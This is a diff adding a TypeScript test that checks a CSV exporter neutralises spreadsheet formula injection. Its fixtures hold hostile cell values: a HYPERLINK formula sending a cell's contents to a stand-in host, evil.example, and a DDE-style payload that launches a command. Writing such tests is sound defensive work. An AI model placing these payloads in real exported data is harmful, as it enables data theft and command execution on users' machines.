@@ -6,7 +6,7 @@ import fc from "fast-check";
 import type { StateChange } from "../batcher/messages.ts";
 import { openStoreReader, type StoreReader } from "../store/reader.ts";
 import { openStoreWriter } from "../store/writer.ts";
-import { exportChunks, exportStream, LP_HEADER } from "./export.ts";
+import { csvField, exportChunks, exportStream, LP_HEADER } from "./export.ts";
 import { ImportError, parseLine, parseLineProtocol } from "./import.ts";
 
 const T0 = 1_795_000_000_000_000; // µs
@@ -92,6 +92,33 @@ describe("export", () => {
       brightness: 200,
       friendly_name: 'Hall "big" light',
     });
+  });
+
+  test("CSV cells a spreadsheet would run as formulas get a leading quote; numbers stay numbers", () => {
+    const hostile = [
+      change(0, "input_text.note", '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
+      { ...change(1, "input_text.b", "@SUM(1+1)*cmd|' /C calc'!A0"), context_user_id: "+cmd" },
+      change(2, "input_text.c", "-2+3"),
+      change(3, "input_text.d", "\tx"),
+      change(4, "sensor.outside", "-3.5"),
+      change(5, "sensor.delta", "+7"),
+    ];
+    const { reader } = seeded(hostile);
+    const rows = [...exportChunks(reader, all, "csv")].join("").trim().split("\n").slice(1);
+    const cells = (entity: string) => rows.find((r) => r.includes(`,${entity},`))!.split(",");
+    expect(rows.find((r) => r.includes("input_text.note"))).toContain(
+      `"'=HYPERLINK(""http://evil.example/?x=""&A1`,
+    );
+    expect(cells("input_text.b")[2]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
+    expect(cells("input_text.b")[7]).toBe("'+cmd");
+    expect(cells("input_text.c")[2]).toBe("'-2+3");
+    expect(cells("input_text.d")[2]).toBe("'\tx");
+    // A numeric state and its value: plain numbers, as they were.
+    expect(cells("sensor.outside").slice(2, 4)).toEqual(["-3.5", "-3.5"]);
+    expect(cells("sensor.delta").slice(2, 4)).toEqual(["+7", "7"]);
+    expect(csvField(-3.5)).toBe("-3.5");
+    expect(csvField("=1")).toBe("'=1");
+    expect(csvField("\r=1")).toBe(`"'\r=1"`);
   });
 
   test("a time range and entity filter select exactly their events; the stream is pulled page by page", async () => {
